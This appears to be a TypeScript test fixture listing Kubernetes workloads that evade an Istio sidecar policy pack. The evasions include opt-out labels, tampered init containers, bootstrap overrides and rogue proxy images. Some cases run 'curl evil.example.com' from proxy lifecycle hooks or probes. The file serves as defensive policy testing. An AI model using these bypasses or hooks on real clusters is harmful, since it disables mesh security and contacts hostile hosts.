import type { Resource } from "../../../policy-pack/tests/engine";
import {
  annotated,
  type Case,
  caseOf as way,
  object,
  patch,
  pod,
  type Tree,
  typed,
  workload,
} from "./object";

const optOut = { "sidecar.istio.io/inject": "false" };

/** A workload whose pod has a container of Istio's with these fields. */
const overriding = (name: string, fields: Tree, list = "containers"): Resource =>
  workload(
    "web",
    {},
    {
      containers: [
        { name: "web", image: "registry.example.com/web:1.0.0" },
        ...(list === "containers" ? [{ name, image: "auto", ...fields }] : []),
      ],
      ...(list !== "containers" && { [list]: [{ name, image: "auto", ...fields }] }),
    },
  );

/** Ways past the pack by pods: proxies that are missing, replaced or without their traffic. */
export const podWays: readonly Case[] = [
  way("arguments of the proxy", overriding("istio-proxy", { args: ["wait"] })),
  way(
    "a program in the proxy after its start",
    overriding("istio-proxy", {
      lifecycle: { postStart: { exec: { command: ["sh", "-c", "curl evil.example.com"] } } },
    }),
  ),
  way(
    "a program in the proxy before its end",
    overriding("istio-proxy", {
      lifecycle: { preStop: { exec: { command: ["sh", "-c", "curl evil.example.com"] } } },
    }),
  ),
  way(
    "a probe that runs a program in the proxy",
    overriding("istio-proxy", {
      readinessProbe: { exec: { command: ["curl", "evil.example.com"] } },
    }),
  ),
  way(
    "files over the proxy's certificates",
    overriding("istio-proxy", {
      volumeMounts: [{ name: "evil", mountPath: "/var/run/secrets/istio" }],
    }),
  ),
  way(
    "the proxy's environment from a ConfigMap",
    overriding("istio-proxy", {
      envFrom: [{ configMapRef: { name: "evil" } }],
    }),
  ),
  way(
    "no redirection, by the init container's program",
    overriding("istio-init", { command: ["true"] }, "initContainers"),
  ),
  way(
    "no redirection, by the init container's image",
    overriding("istio-init", { image: "evil.example.com/init:1.0.0" }, "initContainers"),
  ),
  way(
    "no redirection, by the init container's arguments",
    overriding("istio-init", { args: ["istio-iptables", "-b", ""] }, "initContainers"),
  ),
  way("no check of the redirection", overriding("istio-validation", { command: ["true"] }, "initContainers")),
  way(
    "a native sidecar of another program",
    overriding("istio-proxy", { restartPolicy: "Always", command: ["sh"] }, "initContainers"),
  ),
  way(
    "the overrides that injection restores",
    annotated({ "proxy.istio.io/overrides": '{"containers":[{"name":"istio-proxy","command":["sh"]}]}' }),
  ),
  way("a Pod without a sidecar", {
    ...object("Pod", "web", {}),
    props: {
      apiVersion: "v1",
      kind: "Pod",
      ...pod("web", { name: "web", namespace: "shop", labels: { app: "web", ...optOut } }),
    },
  }),
  way(
    "a StatefulSet in the node's network",
    workload("web", {}, { hostNetwork: true }, { kind: "StatefulSet" }),
  ),
  way(
    "a ReplicaSet without a sidecar",
    typed("apps/v1", "ReplicaSet", "web", {
      spec: { template: pod("web", { labels: { app: "web", ...optOut } }) },
    }),
  ),
  way(
    "a DeploymentConfig of OpenShift without a sidecar",
    typed("apps.openshift.io/v1", "DeploymentConfig", "web", {
      spec: { template: pod("web", { labels: { app: "web", ...optOut } }) },
    }),
  ),
  way(
    "a Workflow of Argo without a sidecar",
    typed("argoproj.io/v1alpha1", "Workflow", "web", {
      spec: {
        podMetadata: { labels: optOut },
        entrypoint: "main",
        templates: [{ name: "main", container: { image: "registry.example.com/web:1.0.0" } }],
      },
    }),
  ),
  way(
    "a JobSet without a sidecar",
    typed("jobset.x-k8s.io/v1alpha2", "JobSet", "web", {
      spec: {
        replicatedJobs: [
          { name: "a", template: { spec: { template: pod("web", { labels: { app: "web", ...optOut } }) } } },
        ],
      },
    }),
  ),
  way(
    "an AdvancedCronJob of OpenKruise without a sidecar",
    typed("apps.kruise.io/v1alpha1", "AdvancedCronJob", "web", {
      spec: {
        template: { jobTemplate: { spec: { template: pod("web", { labels: { app: "web", ...optOut } }) } } },
      },
    }),
  ),
  way(
    "a Rollout with another bootstrap",
    workload(
      "web",
      { labels: { app: "web" }, annotations: { "sidecar.istio.io/bootstrapOverride": "x" } },
      {},
      { kind: "Rollout" },
    ),
  ),
  way(
    "a LeaderWorkerSet with another bootstrap",
    typed("leaderworkerset.x-k8s.io/v1", "LeaderWorkerSet", "web", {
      spec: {
        leaderWorkerTemplate: {
          workerTemplate: pod("web", {
            labels: { app: "web" },
            annotations: { "sidecar.istio.io/bootstrapOverride": "x" },
          }),
        },
      },
    }),
  ),
  way(
    "a Knative revision without traffic through its proxy",
    typed("serving.knative.dev/v1", "Service", "fn", {
      spec: { template: pod("fn", { annotations: { "traffic.sidecar.istio.io/includeInboundPorts": "" } }) },
    }),
  ),
  way(
    "a CronJob whose proxy sees no outbound traffic",
    object("CronJob", "job", {
      spec: {
        jobTemplate: {
          spec: {
            template: pod("job", {
              labels: { app: "job" },
              annotations: { "traffic.sidecar.istio.io/includeOutboundIPRanges": "" },
            }),
          },
        },
      },
    }),
  ),
  way(
    "a policy engine that removes sidecars",
    typed(
      "kyverno.io/v1",
      "ClusterPolicy",
      "web",
      { spec: { rules: [{ name: "a", mutate: { patchStrategicMerge: { metadata: { labels: optOut } } } }] } },
      { namespace: undefined },
    ),
  ),
  way(
    "a SidecarSet that changes annotations of pods",
    typed(
      "apps.kruise.io/v1alpha1",
      "SidecarSet",
      "web",
      {
        spec: {
          selector: { matchLabels: { app: "cart" } },
          patchPodMetadata: [{ annotations: { "sidecar.istio.io/bootstrapOverride": "x" } }],
        },
      },
      { namespace: undefined },
    ),
  ),
  way(
    "a proxy of a managed gateway with another bootstrap",
    typed("gateway.networking.k8s.io/v1", "Gateway", "x", {
      spec: {
        gatewayClassName: "istio",
        infrastructure: { annotations: { "sidecar.istio.io/bootstrapOverride": "x" } },
        listeners: [
          {
            name: "https",
            port: 443,
            protocol: "HTTPS",
            tls: { mode: "Terminate", certificateRefs: [{ name: "a" }] },
          },
        ],
      },
    }),
  ),
  way(
    "a managed gateway of another image",
    object("ConfigMap", "options", {
      data: {
        deployment:
          "spec:\n  template:\n    spec:\n      containers:\n        - name: istio-proxy\n          image: evil.example.com/proxyv2:1.31.0\n",
      },
    }),
    typed("gateway.networking.k8s.io/v1", "Gateway", "x", {
      spec: {
        gatewayClassName: "istio",
        infrastructure: { parametersRef: { group: "", kind: "ConfigMap", name: "options" } },
        listeners: [
          {
            name: "https",
            port: 443,
            protocol: "HTTPS",
            tls: { mode: "Terminate", certificateRefs: [{ name: "a" }] },
          },
        ],
      },
    }),
  ),
  way(
    "a managed gateway's proxy from an annotation of the Gateway",
    typed(
      "gateway.networking.k8s.io/v1",
      "Gateway",
      "x",
      {
        spec: {
          gatewayClassName: "istio",
          listeners: [
            {
              name: "https",
              port: 443,
              protocol: "HTTPS",
              tls: { mode: "Terminate", certificateRefs: [{ name: "a" }] },
            },
          ],
        },
      },
      { annotations: { "proxy.istio.io/config": "discoveryAddress: evil.example.com:15012" } },
    ),
  ),
  way(
    "a patch of a pod's container",
    patch("Deployment", "cart", {
      spec: {
        template: {
          spec: { containers: [{ name: "istio-proxy", image: "evil.example.com/proxyv2:1.31.0" }] },
        },
      },
    }),
  ),
  way(
    "a patch of a CronJob in another stack",
    patch("CronJob", "job", {
      spec: { jobTemplate: { spec: { template: { metadata: { labels: optOut } } } } },
    }),
  ),
  way(
    "a Namespace that is not in the mesh by another case",
    object("Namespace", "pay", {}, { labels: { "istio-injection": "Enabled" } }),
    object("Deployment", "pay", { spec: { template: pod("pay") } }, { namespace: "pay" }),
  ),
  way(
    "a Namespace that no control plane injects by a typing error",
    object("Namespace", "pay", {}, { labels: { "istio-injectoin": "enabled" } }),
    object("Deployment", "pay", { spec: { template: pod("pay") } }, { namespace: "pay" }),
  ),
];
